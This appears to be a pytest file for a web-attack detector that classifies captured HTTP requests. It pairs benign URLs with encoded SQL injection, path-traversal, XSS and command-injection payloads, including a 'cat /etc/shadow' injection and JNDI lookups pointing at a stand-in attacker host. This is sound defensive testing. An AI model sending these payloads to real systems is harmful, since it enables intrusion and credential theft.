"""Web attacks: the attack captures of the corpus, synthetic requests, and benign HTTP."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from appliance.config import WebAttackConfig
from sensors.analyzers.web_attack import WebAttackAnalyzer, classify, decode_request
from tests.helpers.analysis import analyze_findings, finding_hosts, run_analyzer
from tests.helpers.cli import testdata_dir as _testdata_dir
from tests.helpers.login_corpus import (
    DEMO_SEEDS,
    corpus_run,
    demo_capture,
    verify_captures,
    verify_run,
)

WEB = _testdata_dir() / "pcaps" / "web-attacks"
TYPES = {"sql-injection", "path-traversal", "cross-site-scripting", "command-injection"}
#: Capture -> (attack class, attacker) as the corpus index describes them.
EXPECTED = {
    "chrissanders_http_dvwa_directorytraversal.pcapng": ("path-traversal", "10.2.2.101"),
    "chrissanders_http_dvwa_sqlinjection.pcapng": ("sql-injection", "10.2.2.101"),
    "ndpi_WebattackSQLinj.pcap": ("sql-injection", "172.16.0.1"),
    "ndpi_xss.pcap": ("cross-site-scripting", "192.168.3.109"),
    "ndpi_WebattackRCE.pcap": ("command-injection", "127.0.0.1"),
}


@pytest.mark.suricata
def test_each_web_attack_capture_names_its_attack_and_attacker(tmp_path: Path) -> None:
    captures = sorted(p for p in WEB.iterdir() if p.name in EXPECTED)
    assert len(captures) == len(EXPECTED)
    findings = analyze_findings(tmp_path, captures)
    found = finding_hosts(findings, TYPES)
    for _, expected in sorted(EXPECTED.items()):
        assert expected in found
    sqli = next(f for f in findings if f["finding"]["type"] == "sql-injection")
    assert sqli["finding"]["category"] == "exploit"
    assert sqli["finding"]["evidence"]["requests"][0]["url"].startswith("/")
    assert "SQL injection" in sqli["finding"]["explanation"]["en"]
    assert "SQL" in sqli["finding"]["explanation"]["vi"]


@pytest.mark.parametrize("url", [
    "/index.php?option=com_content&view=article&id=12&Itemid=5",
    "/search?q=rock+and+roll&lang=en",
    "/api/v1/items?filter=name%3D%27O%27Brien%27",
    "/?s=it%27s+a+test", "/products?sort=id&order=desc", "/docs/../img/logo.png",
    "/wp-admin/admin-ajax.php?action=heartbeat", "/calc?expr=1%3D1",
])  # fmt: skip
def test_ordinary_requests_are_no_attack(url: str) -> None:
    assert classify(decode_request(url)) == {}


@pytest.mark.parametrize(("url", "kind"), [
    ("/item.php?id=1%2520UNION%2520SELECT%2520password%2520FROM%2520users", "sql-injection"),
    ("/q?id=1%27%3B%20WAITFOR%20DELAY%20%270:0:5%27--", "sql-injection"),
    ("/download?file=..%252f..%252f..%252fwindows%252fwin.ini", "path-traversal"),
    ("/p?name=%3Csvg%20onload%3Dalert(1)%3E", "cross-site-scripting"),
    ("/ping?host=8.8.8.8%7Ccat%20/etc/shadow", "command-injection"),
    ("/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", "command-injection"),
])  # fmt: skip
def test_encoded_payloads_are_recognised_by_their_grammar(url: str, kind: str) -> None:
    assert kind in classify(decode_request(url))


def _http(url: str, client: str = "203.0.113.9", minute: int = 0, **http: Any) -> dict[str, Any]:
    return {"timestamp": f"2024-05-01T10:{minute:02d}:00.000000+0000", "event_type": "http",
            "flow_id": 7 + minute, "src_ip": client, "src_port": 40000,
            "dest_ip": "192.0.2.80", "dest_port": 80, "proto": "TCP",
            "http": {"hostname": "shop.example", "url": url, "http_method": "GET", **http}}


def test_one_finding_per_client_server_and_class_in_the_window() -> None:
    records = [_http(f"/p?id=1%27+or+%271%27%3D%271&n={n}", minute=n, status=200)
               for n in range(5)]  # fmt: skip
    records.append(_http("/p?id=1+union+select+1", client="198.51.100.3", status=500))
    findings = run_analyzer(WebAttackAnalyzer(WebAttackConfig()), records)
    assert [(f["src_ip"], f["finding"]["type"]) for f in findings] == [
        ("203.0.113.9", "sql-injection"), ("198.51.100.3", "sql-injection")]
    first = findings[0]["finding"]
    assert first["severity"] == 2 and first["evidence"]["server_answered_success"]
    assert findings[1]["finding"]["severity"] == 3  # the server refused it


def test_exempt_clients_are_not_judged() -> None:
    cfg = WebAttackConfig(exempt_clients=["203.0.113.0/24"])
    assert run_analyzer(WebAttackAnalyzer(cfg), [_http("/p?id=1+union+select+1")]) == []


def test_payloads_in_the_user_agent_count_too() -> None:
    records = [_http("/", http_user_agent="${jndi:ldap://198.51.100.66/x}")]
    found = run_analyzer(WebAttackAnalyzer(WebAttackConfig()), records)
    assert [f["finding"]["type"] for f in found] == ["command-injection"]


@pytest.mark.suricata
@pytest.mark.slow
def test_ordinary_traffic_raises_none_of_these_findings() -> None:
    run = verify_run()
    found = {str(c): run.summary(c, TYPES) for c in verify_captures()}
    assert {c: f for c, f in found.items() if f} == {}


@pytest.mark.suricata
@pytest.mark.parametrize("seed", DEMO_SEEDS)
def test_the_demo_command_injection_is_found_and_nothing_else(seed: int) -> None:
    found = corpus_run().summary(demo_capture(seed), TYPES)
    assert found == {("command-injection", "203.0.113.66", "10.10.1.11")}
